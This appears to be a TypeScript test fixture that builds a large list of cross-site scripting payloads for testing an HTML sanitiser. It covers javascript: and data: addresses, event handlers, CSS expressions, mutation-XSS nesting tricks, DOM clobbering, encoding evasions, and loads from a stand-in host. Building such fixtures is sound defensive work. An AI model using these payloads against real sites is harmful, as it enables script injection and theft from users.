/**
 * HTML that tries to run `x()` or to reach out of its box, for tests of what sanitises it: single
 * ones of known tricks, and families made of parts.
 */

const RUN = 'x()';

/** Ways to write an address that runs something or leads where it should not. */
export const badAddresses: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `java&#x09;script:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;&#x61;vascript:${RUN}`,
  `&#0000106avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:/*--></title></style></textarea></script>*/${RUN}`,
  `java\0script:${RUN}`,
  `\u2028javascript:${RUN}`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:https://elsewhere.example/1`,
  `filesystem:https://elsewhere.example/1`,
  `file:///etc/passwd`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `jar:javascript:${RUN}!`,
  `//elsewhere.example/x`,
  `/\\elsewhere.example/x`,
  `\\\\elsewhere.example\\x`,
  `/\t/elsewhere.example/x`,
  `http://elsewhere.example/x`,
  `https:elsewhere.example`,
  `https://user:password@elsewhere.example/`,
];

/** Elements that load or link something, with the attribute that says what. */
const carriers: readonly (readonly [tag: string, attribute: string])[] = [
  ['a', 'href'],
  ['img', 'src'],
  ['iframe', 'src'],
  ['form', 'action'],
  ['object', 'data'],
  ['embed', 'src'],
  ['video', 'poster'],
  ['svg', 'xlink:href'],
  ['base', 'href'],
  ['link', 'href'],
];

const handlers = (
  'onclick onerror onload onmouseover onfocus onbegin ontoggle onstart onanimationstart ' +
  'onpointerenter onwheel onscrollend onbeforematch ONCLICK'
).split(' ');
const holders = [
  'p',
  'a href="/hot"',
  'img src="/art/golden-koi.svg"',
  'svg',
  'details open',
  'body',
];

const styles = [
  'background:url(javascript:x())',
  'background-image:url("https://elsewhere.example/x")',
  'position:fixed;inset:0;z-index:9999',
  'behavior:url(#default#time2)',
  '-moz-binding:url(https://elsewhere.example/x)',
  'width:expression(x())',
  'wi\\64th:exp/**/ression(x())',
  '@import "https://elsewhere.example/x"',
];

/** Elements that may not stay, around something that runs. */
const wrappers = (
  'svg,math,template,noscript,textarea,title,style,xmp,plaintext,iframe,noembed,noframes,select,' +
  'option,object,frameset,marquee,math><mtext,svg><foreignObject,svg><desc,svg><style,' +
  'math><annotation-xml,table><colgroup,form><button formaction=javascript:x(),dialog open,portal'
).split(',');
const inside = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<!--</SVG><img src=x onerror=${RUN}>-->`,
  `</p><img src=x onerror=${RUN}>`,
];

const singles = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://elsewhere.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN};//<</script>`,
  `<script/xss src="https://elsewhere.example/x.js"></script>`,
  `<script\n>${RUN}</script\t>`,
  `<script>${RUN}`,
  `</script><script>${RUN}</script>`,
  `<img """><script>${RUN}</script>">`,
  `<img src=x:x onerror=${RUN}//`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src='x'onerror=${RUN}>`,
  `<img src=\`x\` onerror=\`${RUN}\`>`,
  `<img src="/art/golden-koi.svg" srcset="javascript:x() 1x, https://elsewhere.example/x 2x">`,
  `<img src="/art/../api/logout">`,
  `<img src="/art/a.svg?x=1">`,
  `<img src="/media/${'0'.repeat(63)}.webp">`,
  `<img src="https://elsewhere.example/pixel.gif">`,
  `<a href="/hot" onclick=${RUN} ping="https://elsewhere.example">a</a>`,
  `<a href="https://elsewhere.example" target="_self" rel="opener">a</a>`,
  `<a href="#" id="location" name="document">clobbered</a>`,
  `<form id=x><input name=attributes><input name=nodeName>`,
  `<input autofocus onfocus=${RUN}>`,
  `<button popovertarget=x onbeforetoggle=${RUN}>a</button>`,
  `<video><source onerror=${RUN}>`,
  `<audio src onloadstart=${RUN}>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<link rel=stylesheet href="https://elsewhere.example/x.css">`,
  `<style>@import url(https://elsewhere.example/x.css);</style>`,
  `<style>*{background:url(https://elsewhere.example/?x)}</style>`,
  `<div style="width:expression(${RUN})">a</div>`,
  `<div class="note overlay full-screen">a</div>`,
  `<p class="lead" data-action="buy" tabindex=1 contenteditable autofocus onfocus=${RUN}>a</p>`,
  `<x onclick=${RUN}>a</x>`,
  `<x-a is="x">a</x-a>`,
  `<p is="x-a">a</p>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<!--><script>${RUN}</script>-->`,
  `<!--!><img src=x onerror=${RUN}>-->`,
  `<!DOCTYPE x [<!ENTITY y "<script>${RUN}</script>">]>&y;`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `<p title="</p><script>${RUN}</script>">a</p>`,
  `<a title="&quot;&gt;&lt;script&gt;${RUN}&lt;/script&gt;" href="/hot">a</a>`,
  `<img alt="&quot; onerror=${RUN} x=&quot;" src="/art/golden-koi.svg">`,
  `<img alt='"><script>${RUN}</script>' src="/art/golden-koi.svg">`,
  `<a href="/hot&quot; onclick=&quot;${RUN}">a</a>`,
  `<p lang='en" onclick="${RUN}'>a</p>`,
  `<td colspan='1" onclick="${RUN}'>a</td>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${RUN}>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object type="text/html" data="data:text/html,<script>${RUN}</script>"></object>`,
  `<details open ontoggle=${RUN}>a</details>`,
  `<marquee onstart=${RUN}>a</marquee>`,
  `<table background="javascript:${RUN}"><td background="javascript:${RUN}">a</td></table>`,
  `<bgsound src="javascript:${RUN}">`,
  `<layer src="https://elsewhere.example"></layer>`,
  `<p\u0000onclick=${RUN}>a</p>`,
  `<im\u0000g src=x onerror=${RUN}>`,
  `<p/onclick=${RUN}>a`,
  `<p x="<!--" onclick=${RUN} y="-->">a</p>`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
];

/** Every payload once. */
export const xssPayloads: readonly string[] = [
  ...new Set([
    ...singles,
    ...carriers.flatMap(([tag, attribute]) =>
      badAddresses.map((address) => `<${tag} ${attribute}="${address}">a</${tag}>`),
    ),
    ...badAddresses.map((address) => `<a href='${address.replaceAll("'", '')}'>a</a>`),
    ...holders.flatMap((holder) => handlers.map((name) => `<${holder} ${name}="${RUN}">a`)),
    ...handlers.map((name) => `<p ${name}\n=\n'${RUN}'>a</p>`),
    ...styles.flatMap((style) => [
      `<p style='${style}'>a</p>`,
      `<span style="${style.replaceAll('"', '&quot;')}">a</span>`,
    ]),
    ...wrappers.flatMap((wrapper) => inside.map((what) => `<${wrapper}>${what}`)),
    ...wrappers.map((wrapper) => {
      const [end = ''] = wrapper.split(/[\s>]/);
      return `<p><${wrapper}><p title="</${end}><img src=x onerror=${RUN}>">a</p></p>`;
    }),
  ]),
];
